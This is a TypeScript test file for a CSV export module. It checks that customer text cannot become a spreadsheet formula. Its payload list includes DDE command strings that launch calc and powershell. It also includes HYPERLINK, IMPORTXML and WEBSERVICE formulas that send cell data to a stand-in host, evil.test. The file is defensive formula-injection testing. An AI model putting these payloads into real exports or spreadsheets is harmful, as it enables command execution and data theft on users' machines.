import { assertEquals } from "@std/assert";
import { csvLine, csvStream } from "./csv.ts";

/** What begins a formula in Excel, LibreOffice, Google Sheets or Numbers. */
const SIGNS = [..."=+-@", ..."＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋−"];

/** What may stand before the sign and is not seen, or is folded away. */
const BEFORE = [
  ...["", " ", "\t", "\r", "\n", "\r\n", "\u00A0", "\u3000"],
  ...["\uFEFF", "\u200B", "\u200E", "\u202E", "\u00AD", "\u2060", "\0"],
];

/** What a sign is followed by when somebody means harm. */
const BODIES = [
  `HYPERLINK("https://evil.test?"&A1,"詳細")`,
  `cmd|' /C calc'!A0`,
  `SUM(1+1)*cmd|'/C powershell'!A0`,
  `IMPORTXML(CONCAT("https://evil.test/",A1),"//a")`,
  `WEBSERVICE("https://evil.test/")`,
  `1+1","=2+2`,
  `1+1\r\n=2+2`,
  `1;=2+2`,
];

const corpus = BEFORE.flatMap((before) =>
  SIGNS.flatMap((sign) => BODIES.map((body) => before + sign + body))
);

Deno.test("no text of a customer becomes a formula of a spreadsheet", () => {
  const executed: string[] = [];
  for (const text of corpus) {
    const line = csvLine(["bkg_1", text, text, 5500]);
    const rows = parse(line);
    assertEquals(rows.length, 1, "one row stays one row");
    const cells = rows[0]!;
    assertEquals(cells.length, 4, "no cell leaves its place");
    for (const cell of cells) if (isFormula(cell)) executed.push(cell);
    assertEquals(cells[1], `'${text}`, "nothing of the text is lost");
  }
  console.log(`${corpus.length} texts`);
  console.log(`figure: formulas_executed = ${executed.length} (goal = 0)`);
  assertEquals(executed, []);
});

Deno.test("what is no formula is written as it is", () => {
  const texts = ["佐藤 花子", "カット", "a=b", "09012345678", "2030-01-08", ""];
  assertEquals(csvLine(texts), `${texts.join(",")}\r\n`);
  assertEquals(csvLine([-5, 0.5, true, null]), "-5,0.5,true,\r\n");
  assertEquals(csvLine([`a,b`, `"c"`, "d\ne"]), `"a,b","""c""","d\ne"\r\n`);
});

Deno.test("a table is read batch by batch, and no further than the reader goes", async () => {
  let read = 0;
  let isStopped = false;
  async function* batches() {
    try {
      for (;;) yield await Promise.resolve([{ id: ++read }]);
    } finally {
      isStopped = true;
    }
  }
  const columns = [{ header: "番号", cell: ({ id }: { id: number }) => id }];
  const reader = csvStream(columns, batches()).getReader();
  const texts: string[] = [];
  for (let times = 0; times < 3; times++) {
    const { value } = await reader.read();
    texts.push(new TextDecoder("utf-8", { ignoreBOM: true }).decode(value));
  }
  assertEquals(texts, ["\uFEFF番号\r\n", "1\r\n", "2\r\n"]);
  await reader.cancel();
  assertEquals([read <= 4, isStopped], [true, true]);
});

/** Whether a spreadsheet that folds widths and skips what is unseen would run it. */
function isFormula(cell: string): boolean {
  const seen = cell.replaceAll(/[\p{C}\p{Z}\s]/gu, "").normalize("NFKC");
  return /^[=+\-@\u2212]/.test(seen);
}

/** Reads CSV by RFC 4180, written from its grammar and not from the writer. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let cells: string[] = [];
  let rest = text;
  while (rest !== "") {
    const quoted = rest.match(/^"((?:[^"]|"")*)"(,|\r\n)/);
    const plain = rest.match(/^([^",\r\n]*)(,|\r\n)/);
    const found = quoted ?? plain;
    if (!found) throw new Error(`No cell at ${JSON.stringify(rest)}`);
    const [all, value, end] = found as unknown as [string, string, string];
    cells.push(quoted ? value.replaceAll('""', '"') : value);
    rest = rest.slice(all.length);
    if (end === ",") continue;
    rows.push(cells);
    cells = [];
  }
  return rows;
}
